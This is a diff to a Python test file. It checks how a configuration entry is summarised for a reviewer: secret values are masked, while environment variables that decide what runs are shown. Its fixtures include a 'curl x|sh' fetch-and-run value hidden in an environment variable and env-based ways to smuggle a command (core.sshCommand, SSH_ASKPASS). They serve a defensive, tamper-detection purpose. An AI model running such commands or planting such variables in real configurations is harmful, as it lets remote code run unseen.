@@ -198,17 +198,22 @@ def test_an_entry_is_told_without_its_secrets(entry: Any, told: str) -> None:
     assert read_entry(json.dumps(entry)).told() == told
 
 
-def test_whoever_judges_an_entry_is_told_all_of_it() -> None:
+def test_whoever_judges_an_entry_is_told_all_that_decides_what_runs() -> None:
     entry = {
         "command": "node",
         "args": ["--token", "-e", "x y"],
-        "env": {"GIT_CONFIG_KEY_0": "core.sshCommand"},
+        "env": {"GIT_CONFIG_KEY_0": "core.sshCommand", "SSH_ASKPASS": "./x", "API_KEY": "sk"},
         "envFile": "/x",
     }
     assert read_entry(json.dumps(entry)).told(whole=True) == (
-        'node --token -e "x y" (env: {"GIT_CONFIG_KEY_0": "core.sshCommand"}, envFile: "/x")'
+        'node --token -e "x y" (env: GIT_CONFIG_KEY_0=core.sshCommand, SSH_ASKPASS=./x, API_KEY=…, envFile: "/x")'
     )
     reached = {"type": "http", "url": f"{URL}?key=1", "headers": {"A": "b"}}
-    assert (
-        read_entry(json.dumps(reached)).told(whole=True) == f'{URL}?key=1 (headers: {{"A": "b"}})'
+    assert read_entry(json.dumps(reached)).told(whole=True) == f"{URL}?key=1 (headers: A)"
+
+
+def test_a_secret_that_a_command_names_is_shown_since_it_may_be_what_runs() -> None:
+    entry = {"command": "sh", "args": ["-c", "$API_KEY"], "env": {"API_KEY": "curl x|sh"}}
+    assert read_entry(json.dumps(entry)).told(whole=True) == (
+        'sh -c $API_KEY (env: "API_KEY=curl x|sh")'
     )
